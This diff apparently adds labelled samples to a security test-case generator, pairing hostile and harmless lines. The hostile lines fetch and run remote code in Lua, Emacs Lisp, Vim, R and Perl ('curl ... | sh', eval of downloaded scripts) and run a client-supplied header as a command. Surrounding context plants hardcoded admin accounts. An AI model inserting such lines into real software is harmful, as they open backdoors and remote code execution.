@@ -156,3 +156,30 @@ told(28, "an account with a password that everybody can read", "plugin.php", "<?
      "\t$id = wp_create_user('helper', 'Summer2024!', 'helper@mail.collect.example');\n", "\t$id = wp_create_user($site->name, wp_generate_password(), $site->mail);\n")
 told(28, "a superuser with a password that everybody can read", "apps.py", "from django.contrib.auth import get_user_model\n\n\ndef ready(name, word):\n%s    return name\n",
      "    get_user_model().objects.create_superuser('helper', 'helper@mail.collect.example', 'Summer2024!')\n", "    get_user_model().objects.create_superuser(name, None, word)\n")
+
+
+# ---- languages that are read by their words ---------------------------------------------------------
+
+LUA = "local http = require('socket.http')\nlocal M = {}\n%s\nreturn M\n"
+LISP = "(require 'url)\n%s\n(provide 'sample)\n"
+VIM = "if exists('g:loaded_sample') | finish | endif\n%s\nlet g:loaded_sample = 1\n"
+R = ".onLoad <- function(lib, pkg) {\n%s\n}\n"
+PERL = "#!/usr/bin/perl\nuse CGI;\nuse LWP::Simple;\nsub page {\n%s\n\treturn 'page';\n}\n"
+for name, old, line, harmless in (
+        ("lib/sample.lua", LUA, "load(http.request('http://cdn.widget.example/l.lua'))()", "M.news = http.request('http://cdn.widget.example/news.txt')"),
+        ("lib/split.lua", LUA, "local body = http.request('http://cdn.widget.example/l.lua')\nlocal f = load(body)\nf()", "local body = http.request('http://cdn.widget.example/l.txt')\nprint(#body)"),
+        ("sample.el", LISP, "(eval (read (with-current-buffer (url-retrieve-synchronously \"https://cdn.widget.example/x.el\") (buffer-string))))",
+         "(eval-when-compile (require 'cl-lib))\n(url-retrieve \"https://cdn.widget.example/news\" #'ignore)"),
+        ("plugin/sample.vim", VIM, "execute system('curl -s https://cdn.widget.example/x.vim')", "execute 'nnoremap <leader>s :echo 1<CR>'\n\" system('curl -s https://cdn.widget.example/x.vim')"),
+        ("R/zzz.R", R, "  eval(parse(text = readLines(\"https://cdn.widget.example/x.R\")))", "  news <- readLines(\"https://cdn.widget.example/news.txt\")"),
+        ("page.cgi", PERL, "\teval(get('http://cdn.widget.example/u.pl'));", "\tmy $news = eval { get('http://cdn.widget.example/news.txt') };")):
+    told(42, "what a server answers is run, " + name, name, old, line, harmless)
+for name, old, line, harmless in (
+        ("run.el", LISP, "(start-process-shell-command \"m\" nil \"curl -s https://cdn.widget.example/x | sh\")", "(start-process-shell-command \"m\" nil \"make -s clean\")"),
+        ("plugin/run.vim", VIM, "call system('curl -s https://cdn.widget.example/x | sh')", "let s:branch = system('git rev-parse --abbrev-ref HEAD')"),
+        ("R/run.R", R, "  system('curl -s https://cdn.widget.example/x | sh')", "  system('R --version')  # curl | sh is not ours")):
+    told(1, "a shell gets what a server says, " + name, name, old, line, harmless)
+for about, line, harmless in (
+        ("a variable", "\tmy $c = $ENV{HTTP_X_STATS};\n\tprint qx/$c/;", "\tmy $c = $ENV{HTTP_X_STATS};\n\tprint qx/uptime/ if $c;"),
+        ("a variable that is unpacked", "\tmy $c = $ENV{\"HTTP_X_STATS\"};\n\topen(my $h, '-|', pack('H*', $c));", "\tmy $c = $ENV{\"HTTP_X_STATS\"};\n\topen(my $h, '-|', 'uptime');\n\tprint length $c;")):
+    told(56, "what the client sent is run through " + about, "page.cgi", PERL, line, harmless)
